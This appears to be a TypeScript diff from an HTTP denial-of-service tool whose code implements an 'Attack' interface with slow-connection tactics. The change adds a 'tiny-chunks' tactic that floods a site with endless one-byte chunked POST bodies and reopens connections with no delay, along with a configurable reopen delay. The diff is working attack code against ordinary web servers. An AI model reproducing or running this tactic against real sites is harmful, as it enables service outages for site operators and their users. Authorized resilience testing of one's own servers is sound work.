@@ -7,6 +7,7 @@ const NEW_PER_TICK = 10;
 const TICK_MS = 10;
 const REOPEN_DELAY_MS = 5_000;
 const FIRST_BYTES = 64;
+const LOOK_MS = 1_000;
 
 export interface HeldConnection {
   socket: Socket;
@@ -19,6 +20,8 @@ export interface HoldingOptions {
   /** Called once it is open. @returns an action to repeat every `everyMs` */
   hold: (connection: HeldConnection) => () => void;
   everyMs: number;
+  /** Default: REOPEN_DELAY_MS. */
+  reopenDelayMs?: number;
   /** Bytes to receive before reading stops until the socket is resumed; default: no limit. */
   receiveBytes?: number;
 }
@@ -93,7 +96,7 @@ export class HeldConnections implements Attack {
       const again = setTimeout(() => {
         this.#timers.delete(again);
         this.#missing.push(number);
-      }, REOPEN_DELAY_MS);
+      }, this.#options.reopenDelayMs ?? REOPEN_DELAY_MS);
       this.#timers.add(again);
     });
     if (this.#options.receiveBytes === undefined) socket.setEncoding('latin1').on('data', received);
@@ -164,6 +167,26 @@ export const slowBodies: Begin<'slow-bodies'> = (plan, tactic) => {
   });
 };
 
+/** 600 KB on the wire, which the site parses only if nothing stops it. */
+const TINY_CHUNKS = '1\r\nx\r\n'.repeat(100_000);
+
+export const tinyChunks: Begin<'tiny-chunks'> = (plan, { paths }) =>
+  new HeldConnections(plan, {
+    everyMs: LOOK_MS,
+    reopenDelayMs: 0,
+    hold: ({ socket, number }) => {
+      const path = paths[number % paths.length] ?? '/';
+      const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
+      socket.write(`${rawHead(`${plan.host}:${plan.port}`, { method: 'POST', path, headers })}\r\n`);
+      const send = () => {
+        while (!socket.destroyed && socket.write(TINY_CHUNKS));
+      };
+      socket.on('drain', send);
+      send();
+      return nothing;
+    },
+  });
+
 const READ_BYTES = 64;
 
 /** Every other connection reads a little now and then. All of them send further requests. */
@@ -182,7 +205,6 @@ export const slowReaders: Begin<'slow-readers'> = (plan, { path, identity, pipel
   });
 };
 
-const LOOK_MS = 1_000;
 const EVENT = /^data:/gm;
 const STREAM_END = '\r\n0\r\n\r\n';
 /** A refusal's header, in seconds. */
